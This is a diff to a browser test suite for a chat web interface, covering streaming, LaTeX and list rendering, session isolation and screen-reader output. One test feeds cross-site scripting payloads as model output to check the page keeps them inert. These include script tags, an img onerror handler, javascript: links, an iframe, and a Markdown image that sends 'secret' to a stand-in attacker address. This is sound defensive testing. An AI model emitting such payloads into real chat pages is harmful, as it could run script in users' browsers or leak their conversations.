@@ -1,6 +1,7 @@
 """What the page must survive and show: a real browser, the scripted engine. Each test tells where it went wrong."""
 
 import re
+import socket
 from collections.abc import Iterator
 
 import pytest
@@ -27,8 +28,9 @@ def chat(chromium: Browser, app: RunningApp) -> Iterator[Chat]:
         yield opened
 
 
-def verbatim(text: str, rate: str = "") -> str:
-    return f"/text{rate}\n{text}"
+def verbatim(text: str, pace: int = 500) -> str:
+    """A message that the scripted engine answers with this text, at `pace` tokens/s."""
+    return f"/pace {pace}\n/text\n{text}"
 
 
 def test_an_answer_streams_and_ends_in_the_history(chat: Chat) -> None:
@@ -68,7 +70,7 @@ def test_indentation_is_kept(chat: Chat, markdown: str, selector: str, text: str
 
 
 def test_indentation_is_kept_while_streaming(chat: Chat) -> None:
-    chat.send(verbatim("- a\n    - b\n    - c\n\n" + "more words " * 20, " 20 tok/s"))
+    chat.send(verbatim("- a\n    - b\n    - c\n\n" + "more words " * 20, 20))
     expect(chat.live.last.locator("ul ul li").first).to_have_text("b", timeout=15_000)
     chat.stop()
     chat.wait_idle()
@@ -88,7 +90,7 @@ def test_latex_stays_rendered_while_more_text_comes(chat: Chat) -> None:
     chat.page.evaluate("""() => {
         window.seen = []; window.rendered = false;
         const look = () => {
-            const answer = document.querySelector('#live .bot-row:last-of-type .md');
+            const answer = [...document.querySelectorAll('#live .bot-row .md')].at(-1);
             if (answer) {
                 const formula = answer.querySelector('.katex');
                 if (formula) window.rendered = true;
@@ -101,7 +103,7 @@ def test_latex_stays_rendered_while_more_text_comes(chat: Chat) -> None:
         };
         requestAnimationFrame(look);
     }""")
-    chat.send(verbatim("A formula:\n\n$$\nx^2\n$$\n\n" + "and many more words " * 15, " 30 tok/s"))
+    chat.send(verbatim("A formula:\n\n$$\nx^2\n$$\n\n" + "and many more words " * 15, 30))
     chat.wait_idle()
     assert chat.page.evaluate("window.rendered")
     assert chat.page.evaluate("window.seen") == []
@@ -114,28 +116,31 @@ def test_tags_in_prose_are_visible(chat: Chat) -> None:
 
 
 def test_html_from_the_model_is_inert(chat: Chat) -> None:
-    """Reported of FastChat (88) and Gradio (11168): the model's HTML ran."""
+    """Reported of FastChat (88) and Gradio (11168): the model's HTML ran. And a Markdown image, which is no HTML, must
+    not carry the chat to somebody's server in its address."""
     title = chat.page.title()
-    requests: list[str] = []
-    chat.page.on("request", lambda request: requests.append(request.url))
-    chat.ask(
-        verbatim(
-            "<script>document.title = 'owned'</script>\n"
-            "<img src=x onerror=\"document.title = 'owned'\">\n"
-            "<style>body { display: none }</style>\n"
-            "<div style='position: fixed; inset: 0; background: red; z-index: 9999'>cover</div>\n"
-            "<form action='https://attacker.test'><button>press</button></form>\n"
-            "[link](javascript:document.title='owned') ![image](https://attacker.test/?q=secret)\n\n"
-            "- <iframe src='javascript:parent.document.title=1'></iframe>\n"
+    with socket.create_server(("127.0.0.1", 0)) as attacker:
+        attacker.settimeout(0.5)
+        address = f"http://127.0.0.1:{attacker.getsockname()[1]}"
+        chat.ask(
+            verbatim(
+                "<script>document.title = 'owned'</script>\n"
+                "<img src=x onerror=\"document.title = 'owned'\">\n"
+                "<style>body { display: none }</style>\n"
+                "<div style='position: fixed; inset: 0; background: red; z-index: 9999'>cover</div>\n"
+                f"<form action='{address}'><button>press</button></form>\n"
+                f"[link](javascript:document.title='owned') ![image]({address}/?q=secret)\n\n"
+                "- <iframe src='javascript:parent.document.title=1'></iframe>\n"
+            )
         )
-    )
-    answer = chat.rows.last.locator(".md")
-    expect(answer).to_contain_text("<script>")
-    answer.get_by_text("link", exact=True).click()
-    assert chat.page.title() == title
-    assert answer.locator("script, style, iframe, form, div[style*=fixed]").count() == 0
-    expect(chat.box).to_be_visible()
-    assert [url for url in requests if "attacker" in url] == []
+        answer = chat.rows.last.locator(".md")
+        expect(answer).to_contain_text("<script>")
+        answer.get_by_text("link", exact=True).click()
+        assert chat.page.title() == title
+        assert answer.locator("script, style, iframe, form, div[style*=fixed]").count() == 0
+        expect(chat.box).to_be_visible()
+        with pytest.raises(TimeoutError):
+            attacker.accept()
 
 
 def test_html_from_the_user_is_inert_and_visible(chat: Chat) -> None:
@@ -211,11 +216,11 @@ def test_two_tabs_on_one_conversation_do_not_overwrite_each_other(chromium: Brow
 def test_two_browsers_do_not_see_each_other(chromium: Browser, app: RunningApp) -> None:
     """Reported of textgen (2950) and Gradio (4558): one visitor's chat appeared in another's browser."""
     with tab(chromium, app.url) as ann, tab(chromium, app.url) as bob:
-        ann.ask(verbatim("Ann's secret"))
+        ann.ask(verbatim("Ann's riddle"))
         bob.reload()
         expect(bob.page.locator("#greeting")).to_be_visible()
         assert bob.rows.count() == 0
-        assert "secret" not in bob.page.content()
+        assert "riddle" not in bob.page.content()
 
 
 def test_a_stop_in_one_browser_leaves_the_other_alone(chromium: Browser, app: RunningApp) -> None:
@@ -267,7 +272,7 @@ def test_a_screen_reader_hears_the_answer_once(chat: Chat) -> None:
             if (text) window.heard.push(text);
         }).observe(document.querySelector('#announcer'), {childList: true, characterData: true, subtree: true});
     }""")
-    chat.ask(verbatim("one two three four five", " 20 tok/s"))
+    chat.ask(verbatim("one two three four five", 20))
     expect(chat.page.locator("#announcer")).to_have_text("one two three four five")
     assert chat.page.evaluate("window.heard") == ["one two three four five"]
     assert chat.page.locator("#history [role=log]").get_attribute("aria-live") == "off"
